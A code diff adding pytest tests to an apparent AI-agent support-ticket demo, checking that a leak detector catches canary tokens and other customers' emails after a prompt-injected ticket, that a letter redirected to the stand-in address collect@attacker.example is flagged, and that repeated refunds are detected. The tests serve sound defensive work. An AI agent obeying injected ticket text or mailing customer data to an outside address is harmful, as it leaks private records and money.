@@ -5,7 +5,7 @@ import json
 import os
 import re
 from collections import Counter
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from io import StringIO
 from pathlib import Path
 
@@ -14,11 +14,15 @@ from rich.console import Console
 
 from codeact import Journal
 from codeact.outbox import Outbox
-from examples.support_ticket.canary import VARIABLE
+from examples.support_ticket import desk
+from examples.support_ticket.actions import support_actions
+from examples.support_ticket.canary import VARIABLE, planted
 from examples.support_ticket.data import Company, generate
 from examples.support_ticket.demo import ENGINES, INJECTED, TWICE, Report, play
-from examples.support_ticket.leaks import ADDRESS
-from examples.support_ticket.tickets import queue
+from examples.support_ticket.leaks import ADDRESS, leaks
+from examples.support_ticket.office import Office
+from examples.support_ticket.records import Book
+from examples.support_ticket.tickets import Ticket, queue
 
 
 @dataclass(frozen=True)
@@ -174,6 +178,37 @@ def test_nothing_is_left_behind_unasked(tmp_path: Path, monkeypatch: pytest.Monk
     assert list(tmp_path.iterdir()) == []
     assert isinstance(console.file, StringIO)
     assert "Nothing of this is kept." in console.file.getvalue()
+
+
+def test_what_would_come_out_is_found(played: Played, company: Company) -> None:
+    episode = played.report.shift.episodes[INJECTED][0]
+    stranger = next(row.email for id_, row in company.book.customers.items() if id_ not in episode.ticket.accounts)
+    with planted() as canary:
+        assert leaks(canary, company.book, episode, f"see {episode.ticket.sender}") == []
+        page = f"<p>{stranger}</p> {canary.token}"
+        found = leaks(canary, company.book, episode, page)
+    assert found == [f"T-6 on wasm: ${VARIABLE}", f"T-6 on wasm: {stranger}"]
+
+
+def test_a_letter_to_somebody_else_would_be_found(monkeypatch: pytest.MonkeyPatch) -> None:
+    def astray(ticket: Ticket, book: Book, office: Office) -> object:
+        wrong = "collect@attacker.example" if ticket.id == TWICE else ticket.sender
+        return support_actions(replace(ticket, sender=wrong), book, office)
+
+    monkeypatch.setattr(desk, "support_actions", astray)
+    report = play(Console(file=StringIO()), engines=("restricted",))
+    assert report.shift.leaks == ("a letter to collect@attacker.example",)
+    assert not report.ok
+
+
+def test_what_happened_twice_would_be_found(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(desk, "Outbox", lambda _path, **given: Outbox(":memory:", **given))
+    console = Console(file=StringIO(), width=100)
+    report = play(console, engines=("restricted",))
+    assert report.shift.again == (14, 1), "the clerk still knows that the money has gone back"
+    assert not report.ok
+    assert isinstance(console.file, StringIO)
+    assert "SOME OF IT HAPPENED AGAIN" in " ".join(console.file.getvalue().split())
 
 
 def test_turns_are_counted_from_what_was_carried_out(played: Played) -> None:
